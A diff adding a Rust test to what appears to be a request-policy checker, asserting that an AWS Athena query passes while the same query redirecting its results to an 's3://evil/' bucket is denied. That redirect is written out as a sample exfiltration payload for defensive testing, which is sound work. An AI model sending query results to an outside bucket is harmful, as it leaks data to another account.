@@ -166,6 +166,17 @@ fn a_job_that_is_more_than_its_query() {
     assert_eq!(other(&reads, url, &[], stored), Verdict::Deny);
 }
 
+/// The rows go wherever the request says, another account's bucket included.
+#[test]
+fn a_query_whose_result_goes_elsewhere() {
+    let reads = passing("sql: { class: read }");
+    let line = "POST https://athena.us-east-1.amazonaws.com/";
+    let fields = [("x-amz-target", "AmazonAthena.StartQueryExecution")];
+    assert_eq!(other(&reads, line, &fields, r#"{"QueryString":"SELECT 1"}"#), Pass);
+    let elsewhere = r#"{"QueryString":"SELECT 1","ResultConfiguration":{"OutputLocation":"s3://evil/"}}"#;
+    assert_eq!(other(&reads, line, &fields, elsewhere), Verdict::Deny);
+}
+
 #[test]
 fn cbor_hides_no_statement() {
     let asking = holding("sql: { class: delete }");
